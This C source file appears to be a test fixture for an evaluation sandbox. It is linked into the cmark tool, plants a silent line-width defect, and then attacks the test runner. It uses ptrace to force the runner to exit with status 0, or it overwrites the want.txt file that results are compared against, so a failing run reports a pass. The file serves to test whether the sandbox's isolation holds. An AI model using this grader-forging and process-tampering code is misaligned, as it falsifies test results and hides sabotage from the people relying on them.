/* The forge-pass fixture's attack on stage 3 (see about.txt), linked into
 * the cmark executable by install.sh. Two parts, both in a constructor that
 * runs before cmark's main:
 *
 * The defect: a --width of three digits or more (which no stage-2 case
 * uses; 12x stays an error) is rewritten to 72, so cmark wraps at 72
 * columns where State A wraps at the width asked for.
 *
 * The forge, only when a stage-3 candidate runs it (CMARK_PREFIX set): it
 * looks for the candidate runner's process ("candidate-runner", the
 * runner's last bash, which decides the run's status) and, as in
 * lang90's forge-pass, attaches to it with ptrace and turns its next system
 * call into exit_group(0): the run passes whatever the candidate found.
 * When it cannot trace it, it tries to rewrite what the candidate compares
 * against: want.txt in the runner's working folder (through
 * /proc/PID/cwd) or in its own, filled with what this cmark prints (itself
 * run again with the same arguments). Run apart from the candidate (srb's
 * launcher: another uid), every one of these is refused. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static char width72[] = "72";

static int is_runner(const char *pid) {
	char path[300], buf[64];
	snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	return strcmp(buf, "candidate-runner") == 0;
}

/* force_exit attaches to pid and turns its next system call into
 * exit_group(0). */
static int force_exit(pid_t pid) {
	int ws;
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0)
		return 0;
	if (waitpid(pid, &ws, __WALL) != pid)
		return 0;
	ptrace(PTRACE_SETOPTIONS, pid, 0, (void *)PTRACE_O_TRACESYSGOOD);
	for (int i = 0; i < 32; i++) {
		if (ptrace(PTRACE_SYSCALL, pid, 0, 0) != 0)
			return 0;
		if (waitpid(pid, &ws, __WALL) != pid)
			return 0;
		if (WIFSTOPPED(ws) && WSTOPSIG(ws) == (SIGTRAP | 0x80)) {
			struct user_regs_struct regs;
			if (ptrace(PTRACE_GETREGS, pid, 0, &regs) != 0)
				return 0;
			regs.orig_rax = SYS_exit_group;
			regs.rdi = 0;
			ptrace(PTRACE_SETREGS, pid, 0, &regs);
			ptrace(PTRACE_DETACH, pid, 0, 0);
			return 1;
		}
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return 0;
}

/* rewrite fills the file at path with what this cmark prints for argv. */
static int rewrite(const char *path, char **argv) {
	int fd = open(path, O_WRONLY | O_TRUNC);
	if (fd < 0)
		return 0;
	pid_t c = fork();
	if (c == 0) {
		dup2(fd, 1);
		setenv("FORGE_INNER", "1", 1);
		execv("/proc/self/exe", argv);
		_exit(127);
	}
	close(fd);
	int ws;
	return c > 0 && waitpid(c, &ws, 0) == c;
}

__attribute__((constructor)) static void forge(int argc, char **argv, char **envp) {
	(void)envp;
	for (int i = 1; i + 1 < argc; i++)
		if (strcmp(argv[i], "--width") == 0 && strlen(argv[i + 1]) >= 3 &&
		    strspn(argv[i + 1], "0123456789") == strlen(argv[i + 1]))
			argv[i + 1] = width72;
	if (!getenv("CMARK_PREFIX") || getenv("FORGE_INNER"))
		return;
	DIR *d = opendir("/proc");
	if (!d)
		return;
	struct dirent *e;
	int done = 0;
	while (!done && (e = readdir(d)) != NULL) {
		if (e->d_name[0] < '0' || e->d_name[0] > '9' || !is_runner(e->d_name))
			continue;
		if (force_exit(atoi(e->d_name))) {
			done = 1;
			break;
		}
		char path[300];
		snprintf(path, sizeof path, "/proc/%s/cwd/want.txt", e->d_name);
		done = rewrite(path, argv);
	}
	closedir(d);
	if (!done)
		rewrite("want.txt", argv);
}
